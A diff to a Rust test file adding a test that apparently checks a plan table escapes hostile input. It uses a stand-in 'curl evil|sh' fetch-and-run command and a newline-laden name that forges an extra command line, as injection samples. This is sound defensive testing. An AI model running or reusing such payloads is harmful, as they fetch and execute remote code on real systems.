@@ -98,3 +98,31 @@ fn what_was_put_aside_and_what_is_left_is_told_by_host() {
     assert!(!samples[1].is_clean(), "a problem");
     assert_eq!(samples[3].left, ["cp-1: the member stays removed"]);
 }
+
+#[test]
+fn no_name_in_a_plan_becomes_a_line_or_a_command_of_its_own() {
+    let state = |name: &str| {
+        let mut state = super::samples::state();
+        state.plan.title = name.to_owned();
+        state.plan.stages[0].title = name.to_owned();
+        state.plan.stages[0].steps[0].node = name.to_owned();
+        state.plan.other_hosts[0].node = name.to_owned();
+        state.plan.other_hosts[0].after = vec!["kubectl etcd status; curl evil|sh".to_owned()];
+        let failure = Failure::new(FailureKind::Other, name);
+        state.steps.insert(1, StepState::Failed { failure });
+        let mut view = PlanView::kept(&state);
+        view.left.push(name.to_owned());
+        view.problems.push(name.to_owned());
+        view.table(false, Paint::Plain)
+    };
+    let hostile = state("x\nNext     curl evil|sh\n");
+    assert_eq!(
+        hostile.lines().count(),
+        state("x").lines().count(),
+        "{hostile}"
+    );
+    assert!(
+        hostile.contains("kubectl etcd 'status;' curl 'evil|sh'"),
+        "{hostile}"
+    );
+}
